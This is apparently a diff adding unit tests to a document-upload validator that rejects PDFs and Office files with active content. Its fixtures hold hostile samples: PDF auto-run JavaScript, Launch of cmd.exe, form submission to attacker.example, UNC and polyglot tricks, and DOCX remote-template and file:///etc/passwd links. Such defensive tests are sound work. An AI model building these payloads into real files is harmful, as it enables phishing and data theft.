@@ -1,6 +1,7 @@
 import { createHash } from 'crypto';
 import JSZip from 'jszip';
 import sharp from 'sharp';
+import { deflateSync } from 'zlib';
 import {
   ATTACHMENT_PROBLEM_MESSAGES,
   DEFAULT_ATTACHMENT_LIMITS,
@@ -154,6 +155,34 @@ const MINIMAL_PDF = [
   '%%EOF',
   '',
 ].join('\n');
+
+/** A PDF of the given objects (numbered from 1) after a catalog; readers rebuild a missing xref table. */
+function pdfOf(catalogExtra: string, ...objects: Array<string | Buffer>): Buffer {
+  const parts: Buffer[] = [
+    Buffer.from(`%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R ${catalogExtra} >> endobj\n`),
+    Buffer.from('2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n'),
+  ];
+  objects.forEach((object, i) => {
+    parts.push(Buffer.from(`${i + 3} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'));
+  });
+  parts.push(Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'));
+  return Buffer.concat(parts);
+}
+
+/** A stream object with its dictionary entries and data, optionally deflated. */
+function streamOf(dictionary: string, data: Buffer | string, deflate = true): Buffer {
+  const bytes = deflate ? deflateSync(Buffer.from(data)) : Buffer.from(data);
+  const filter = deflate ? '/Filter /FlateDecode ' : '';
+  return Buffer.concat([
+    Buffer.from(`<< ${dictionary} ${filter}/Length ${bytes.length} >>\nstream\n`),
+    bytes,
+    Buffer.from('\nendstream'),
+  ]);
+}
+
+/** An object stream holding object 9 (`body`). */
+const objectStream = (body: string, dictionary = '/Type /ObjStm /N 1 /First 5') =>
+  streamOf(dictionary, `9 0 ${body}`);
 
 const SVG =
   '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">' +
@@ -312,6 +341,90 @@ describe('PDF', () => {
   });
 });
 
+describe('PDF active content', () => {
+  const JS_ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+
+  it('accepts links, an opening destination, outlines and text that merely mentions the names', async () => {
+    const links = pdfOf(
+      '/OpenAction [2 0 R /Fit] /Outlines 3 0 R',
+      '<< /Type /Outlines /Count 0 >>',
+      '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.vn/JS) >> >>',
+      '<< /Title (About /JavaScript and /OpenAction) /Author <2f4a53> >>',
+      // Drawing data is not read: a content stream whose text shows "/JS" stays a drawing.
+      streamOf('', 'BT /F1 12 Tf (x) Tj ET /JS /AA'),
+      streamOf('/Subtype /Image /Width 1 /Height 1', Buffer.from('/JS /Launch'), false)
+    );
+    expect((await accepted(links)).kind).toBe('pdf');
+    // pdfTeX and DocBook write the destination as a reference.
+    expect((await accepted(pdfOf('/OpenAction 3 0 R', '[2 0 R /Fit]'))).kind).toBe('pdf');
+    const compressed = pdfOf('', objectStream('<< /Type /Annot /Subtype /Link /A << /S /URI >> >>'));
+    expect((await accepted(compressed)).kind).toBe('pdf');
+  });
+
+  it('refuses scripts and automatic actions, written plainly', async () => {
+    const cases = [
+      pdfOf(`/OpenAction ${JS_ACTION}`),
+      pdfOf('/OpenAction << /S /URI /URI (https://attacker.example) >>'),
+      pdfOf('/Names << /JavaScript 3 0 R >>', '<< /Names [(a) 4 0 R] >>'),
+      pdfOf('/AA << /WC 3 0 R >>', '<< /S /URI /URI (https://attacker.example) >>'),
+      pdfOf('', '<< /Type /Annot /A << /S /Launch /F (cmd.exe) >> >>'),
+      pdfOf('/Names << /EmbeddedFiles 3 0 R >>', '<< /Names [] >>'),
+      pdfOf('', '<< /Type /EmbeddedFile >>'),
+      pdfOf('', '<< /Type /Annot /Subtype /RichMedia >>'),
+      pdfOf('/AcroForm << /Fields [] /XFA 3 0 R >>', '<< >>'),
+      pdfOf('', '<< /S /SubmitForm /F (https://attacker.example) >>'),
+      pdfOf('', '<< /S /ImportData /F (data.fdf) >>'),
+      pdfOf('', '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>'),
+      pdfOf('', '<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) >>'),
+    ];
+    for (const pdf of cases) expect(await problemOf(pdf)).toBe('active_content');
+  });
+
+  it('refuses the names written with #xx escapes', async () => {
+    expect(await problemOf(pdfOf('/Names << /J#61vaScript 3 0 R >>', '<< >>'))).toBe('active_content');
+    expect(await problemOf(pdfOf('/Open#41ction << /S /URI >>'))).toBe('active_content');
+    expect(await problemOf(pdfOf('', '<< /S /#4A#53 >>'))).toBe('active_content');
+  });
+
+  it('refuses them inside compressed object streams, typed or not', async () => {
+    expect(await problemOf(pdfOf('', objectStream(JS_ACTION)))).toBe('active_content');
+    expect(await problemOf(pdfOf('', objectStream('<< /S /Launch >>', '/N 1 /First 5')))).toBe(
+      'active_content'
+    );
+    const escaped = objectStream('<< /S /JavaScript >>', '/Type /Obj#53tm /N 1 /First 5');
+    expect(await problemOf(pdfOf('', escaped))).toBe('active_content');
+  });
+
+  it('refuses object streams it cannot read: other filters, predictors, broken or too large data', async () => {
+    const hex = streamOf('/Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode', '39', false);
+    const predictor = streamOf('/Type /ObjStm /N 1 /First 5 /DecodeParms << /Predictor 12 >>', '9 0 << >>');
+    const broken = streamOf('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', 'not deflate', false);
+    for (const stream of [hex, predictor, broken]) expect(await problemOf(pdfOf('', stream))).toBe('corrupt');
+    const bomb = pdfOf('', objectStream(`<< /Filler (${'x'.repeat(200_000)}) >>`));
+    expect(await problemOf(bomb, withLimits({ maxUnpackedBytes: 100_000 }))).toBe('zip_too_large');
+    expect((await accepted(bomb)).kind).toBe('pdf');
+  });
+
+  it('refuses an encrypted PDF, whose objects cannot be read', async () => {
+    const encrypted = Buffer.from(
+      pdfOf('').toString('latin1').replace('trailer << ', 'trailer << /Encrypt 9 0 R '),
+      'latin1'
+    );
+    expect(await problemOf(encrypted)).toBe('encrypted_or_macro');
+  });
+
+  it('refuses an HTML/PDF polyglot', async () => {
+    const polyglot = Buffer.from('%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n');
+    expect(await problemOf(polyglot)).toBe('active_content');
+    const trailing = Buffer.from(MINIMAL_PDF.replace('%%EOF', '<!DOCTYPE html><body onload=x>\n%%EOF'));
+    expect(await problemOf(trailing)).toBe('active_content');
+    // Inside a stream the same bytes are data (e.g. XMP metadata), not markup a browser would see first.
+    expect((await accepted(pdfOf('', streamOf('/Type /Metadata', '<html>x</html>', false)))).kind).toBe(
+      'pdf'
+    );
+  });
+});
+
 describe('DOCX and XLSX', () => {
   it('accepts a DOCX as is', async () => {
     const value = await accepted(docx);
@@ -402,6 +515,94 @@ describe('DOCX and XLSX', () => {
     });
     for (const zip of [withBin, docm, xlsm, obfuscated, utf16, renamedProject]) {
       expect(await problemOf(zip)).toBe('encrypted_or_macro');
+    }
+  });
+
+  const rels = (...relationships: string[]) =>
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+    relationships.join('') +
+    '</Relationships>';
+  const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+  it('accepts web and mail hyperlinks and printer settings', async () => {
+    const linked = await zipOf({
+      ...DOCX_FILES,
+      'word/_rels/document.xml.rels': rels(
+        `<Relationship Id="rId5" Type="${R}/hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"/>`,
+        `<Relationship Id="rId6" Type="${R}/hyperlink" Target="mailto:a@example.vn" TargetMode="External"/>`,
+        `<Relationship Id="rId7" Type="${R}/printerSettings" Target="printerSettings/printerSettings1.bin"/>`
+      ),
+      'word/printerSettings/printerSettings1.bin': Buffer.alloc(64, 1),
+    });
+    expect((await accepted(linked)).kind).toBe('docx');
+  });
+
+  it('refuses external relationships other than web links: templates, images, frames, UNC links', async () => {
+    const external = (type: string, target: string) =>
+      zipOf({
+        ...DOCX_FILES,
+        'word/_rels/settings.xml.rels': rels(
+          `<Relationship Id="rId1" Type="${R}/${type}" Target="${target}" TargetMode="External"/>`
+        ),
+      });
+    const cases = [
+      await external('attachedTemplate', 'http://attacker.example/t.dotm'),
+      await external('image', 'http://attacker.example/pixel.png'),
+      await external('frame', 'http://attacker.example/f.html'),
+      await external('subDocument', 'file:///C:/a.docx'),
+      await external('hyperlink', '\\\\attacker.example\\share'),
+      await external('hyperlink', 'file:///etc/passwd'),
+      // Attribute quoting and order, a prefix, and a character reference do not hide it.
+      await zipOf({
+        ...DOCX_FILES,
+        'word/_rels/settings.xml.rels': rels(
+          `<pr:Relationship TargetMode='Ext&#101;rnal' Target='http://a.example/t.dotm' Id='x' Type='${R}/attachedTemplate'/>`
+        ),
+      }),
+    ];
+    for (const zip of cases) expect(await problemOf(zip)).toBe('active_content');
+  });
+
+  it('refuses an XLSX linked to an external workbook', async () => {
+    const xlsxLinked = await zipOf({
+      ...XLSX_FILES,
+      'xl/_rels/workbook.xml.rels': rels(
+        `<Relationship Id="rId3" Type="${R}/externalLink" Target="externalLinks/externalLink1.xml"/>`
+      ),
+      'xl/externalLinks/externalLink1.xml': '<externalLink/>',
+      'xl/externalLinks/_rels/externalLink1.xml.rels': rels(
+        `<Relationship Id="rId1" Type="${R}/externalLinkPath" Target="\\\\srv\\b.xlsx" TargetMode="External"/>`
+      ),
+    });
+    expect(await problemOf(xlsxLinked)).toBe('active_content');
+  });
+
+  it('refuses OLE embeddings and ActiveX controls', async () => {
+    const ole = await zipOf({ ...DOCX_FILES, 'word/embeddings/oleObject1.bin': oleFile() });
+    const oleRel = await zipOf({
+      ...DOCX_FILES,
+      'word/_rels/document.xml.rels': rels(
+        `<Relationship Id="rId9" Type="${R}/oleObject" Target="media/x.dat"/>`
+      ),
+      'word/media/x.dat': Buffer.alloc(64, 2),
+    });
+    const activeX = await zipOf({
+      ...DOCX_FILES,
+      'word/activeX/activeX1.xml': '<ax:ocx/>',
+      'word/activeX/_rels/activeX1.xml.rels': rels(''),
+    });
+    const activeXType = await zipOf({
+      ...XLSX_FILES,
+      '[Content_Types].xml': contentTypes(
+        ['/xl/workbook.xml', XLSX_MAIN],
+        ['/xl/ctrl.xml', 'application/vnd.ms-office.activeX+xml']
+      ),
+      'xl/ctrl.xml': '<ax:ocx/>',
+    });
+    const control = await zipOf({ ...XLSX_FILES, 'xl/controls/control1.bin': Buffer.alloc(64, 3) });
+    for (const zip of [ole, oleRel, activeX, activeXType, control]) {
+      expect(await problemOf(zip)).toBe('active_content');
     }
   });
 
@@ -550,6 +751,7 @@ describe('messages', () => {
       'zip_too_large',
       'zip_too_many_entries',
       'encrypted_or_macro',
+      'active_content',
     ];
     expect(Object.keys(ATTACHMENT_PROBLEM_MESSAGES).sort()).toEqual([...problems].sort());
     for (const problem of problems) {
